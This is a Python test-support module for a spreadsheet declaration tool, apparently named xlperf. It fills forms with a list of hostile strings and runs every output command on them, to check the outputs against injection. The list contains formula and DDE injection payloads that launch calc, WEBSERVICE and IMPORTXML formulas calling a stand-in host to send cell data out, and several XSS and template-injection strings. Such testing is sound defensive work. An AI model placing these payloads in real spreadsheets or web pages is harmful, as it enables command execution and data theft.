"""Everything that xlperf writes, written once of declarations whose every text is hostile.

Owns the hostile texts and the list of commands. A new output is one line in `commands` (or a suffix in `publish.WRITERS`).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

import xlperf.cli
from xlperf.declaration import Declaration, Entered
from xlperf.form import Form, load_form
from xlperf.messages import speaking
from xlperf.publishing import WRITERS
from xlperf.template.stamp import Stamper
from xlperf.template.write import Options

FORM = load_form("guangzhou-2023")
SECRET_FOLDER = "秘密文件夹-8d1f"
SECRET_USER = "zhangsan-9c4e"

ROWS = {"key_tasks": 3, "other_tasks": 2, "indicators": 3}

MARKS = ("7654321", "evil.example", "alert(", "/C calc", "onerror", "onload")
"""Each hostile text holds one of these and nothing of ours does, so that it is known wherever it turns up."""

TEXTS = (
    "=7654321+1",
    "+7654321",
    "-7654321+3",
    "@SUM(7654321)",
    "\t=7654321",
    "\r=7654321",
    "\n=7654321",
    " =7654321",
    "　=7654321",
    "＝7654321+1",
    "＋7654321+1",
    "＠7654321",
    "'=7654321",
    '"=7654321"',
    ";=7654321",
    ",=7654321",
    '",=7654321,"',
    "{=7654321}",
    "%0A=7654321",
    "_x003D_7654321",
    "=cmd|'/C calc'!A0",
    "=cmd|'/C calc'!'A1'+7654321",
    "DDE(\"cmd\",\"/C calc\",\"x\")",
    '=HYPERLINK("http://evil.example/","看这里")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example/","//a")',
    "='file:///c:/evil.example.xlsx'#$A.A1",
    "http://evil.example/a?b=c",
    "mailto:boss@evil.example",
    "\\\\evil.example\\share\\a.xlsx",
    "file:///etc/evil.example",
    "external:evil.example.xlsx",
    "internal:'申报表'!A1evil.example",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</td></tr></table></body><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "{{ 7654321 }}{% include 'x' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]><script>alert(1)</script>",
    "&Z&F&A7654321",
    "<!--#exec cmd=\"/C calc\"-->",
)  # fmt: skip


@dataclass
class Story:
    """What was written: the folder of all outputs, and of each command its exit status and what it printed."""

    folder: Path
    outputs: Path
    inbox: Path
    said: dict[str, str] = field(default_factory=dict)
    status: dict[str, int] = field(default_factory=dict)

    def files(self) -> Iterator[Path]:
        return (path for path in sorted(self.outputs.rglob("*")) if path.is_file())


def department(number: int) -> str:
    """A name that begins with a hostile text and is nobody else's."""
    return f"{TEXTS[number]}第{number}局"


def hostile(form: Form, number: int) -> Declaration:
    """A declaration in which every text is `TEXTS[number]`, in tables and in number cells, too."""
    text = TEXTS[number]

    def entered(is_number: bool, row: int) -> Entered:
        return Decimal("12.5") if is_number and row == 0 else text

    fields = {name: entered(part.is_number, 0) for name, part in form.inputs.items()}
    tables = {
        table.id: tuple(
            {column.id: entered(column.is_number, row) for column in table.column} for row in range(2)
        )
        for table in form.tables.values()
    }
    fields[form.department] = department(number)
    return Declaration(form, fields, tables, year=form.year)


def file_name(text: str) -> str:
    """The text as a file's name, so far as a file system takes it."""
    return (re.sub(r"[/\x00]", "∕", text).replace("\\", "＼")[:60] or "_") + ".xlsx"


def tell(folder: Path) -> Story:
    """Runs every command that writes."""
    base = folder / SECRET_FOLDER
    story = Story(base, base / "outputs", base / "inbox")
    for path in (story.outputs, story.inbox, base / "older"):
        path.mkdir(parents=True)
    stamper = Stamper(FORM, Options(rows=ROWS))
    for number, text in enumerate(TEXTS):
        name, code, given = department(number), f"{number:03}", hostile(FORM, number)
        (story.inbox / file_name(text)).write_bytes(stamper.workbook(name, code, given))
        if number % 6 == 0:
            fields = {**given.fields, "staff_count": Decimal(3), "overall_objective": f"旧{text}"}
            changed = Declaration(FORM, fields, {}, year=FORM.year)
            (base / "older" / file_name(text)).write_bytes(stamper.workbook(name, code, changed))
    roster = base / "roster.csv"
    roster.write_text(_roster(), encoding="utf-8-sig")
    with speaking("zh"):
        for name, words in commands(story, roster, base / "older"):
            story.status[name], story.said[name] = _run(words)
    return story


def _roster() -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["code", "name", "email", "contact"])
    for number, text in enumerate(TEXTS):
        writer.writerow([f"{number:03}", " ".join(department(number).split()), "a@b.example", text])
    writer.writerow(["=7654321", "没有报送的单位=7654321", "=7654321", "=cmd|'/C calc'!A0"])
    return out.getvalue()


def commands(story: Story, roster: Path, older: Path) -> Iterator[tuple[str, list[str]]]:
    """(name, words of the command line) of everything that writes into `story.outputs`."""
    out, inbox = story.outputs, str(story.inbox)
    first = str(story.inbox / file_name(TEXTS[0]))
    yield "new-template", ["new-template", "-o", str(out / "template.xlsx"), "--department", TEXTS[20]]
    yield (
        "new-template --roster",
        ["new-template", "-o", str(out / "templates"), "--roster", str(roster), "--rows", "key_tasks=3"],
    )
    yield "consolidate", [
        "consolidate", inbox, "-o", str(out / "all.xlsx"), "--roster", str(roster), "--include-rejected", "-j", "1",
        *_further_outputs("consolidate", out),
    ]  # fmt: skip
    yield "return", ["return", inbox, "-o", str(out / "returned"), "--all", "--roster", str(roster)]
    yield "compare", ["compare", str(older), inbox, "-o", str(out / "changes.xlsx"), "--include-rejected"]
    for number, text in enumerate(TEXTS):
        book = str(story.inbox / file_name(text))
        for suffix in WRITERS:
            if number in (20, 34) or (suffix in QUICK and number == 23):
                yield f"publish {number} {suffix}", ["publish", book, "-o", str(out / f"p{number}{suffix}")]
        if number % 9 == 0:
            filled = str(out / f"filled{number}.xlsx")
            yield f"fill {number}", ["fill", str(out / "template.xlsx"), "--from", book, "-o", filled]
            yield f"clean {number}", ["clean", book, "-o", str(out / f"clean{number}.xlsx")]
    for suffix in QUICK:
        every = str(out / f"every{suffix[1:]}")
        yield (
            f"publish all {suffix}",
            ["publish", inbox, "-o", every, "--as", suffix[1:], "--include-rejected", "-j", "1"],
        )
    yield "fill txt", ["fill", first, "--from", str(out / "p23.txt"), "-o", str(out / "filled-from-txt.xlsx")]
    yield "check", ["check", inbox]
    yield "check json", ["check", inbox, "--format", "json"]


QUICK = (".txt", ".json")
"""Kinds of published file that are written of every hostile text, as one folder; the others of two."""


def _further_outputs(command: str, out: Path) -> list[str]:
    """The options of a command that name a further output, those that are there."""
    import importlib

    module = importlib.import_module(xlperf.cli.COMMANDS[command])
    known = {"report": "report.html", "dataset": "dataset"}
    names = {parameter.name for parameter in module.command.params}
    return [word for name, file in known.items() if name in names for word in (f"--{name}", str(out / file))]


def _run(words: list[str]) -> tuple[int, str]:
    """The exit status, and all that was printed."""
    from contextlib import redirect_stderr, redirect_stdout

    said = io.StringIO()
    run: Callable[[list[str]], int] = xlperf.cli._run
    with redirect_stdout(said), redirect_stderr(said):
        status = run([*words, "--lang", "zh"])
    return status, said.getvalue()
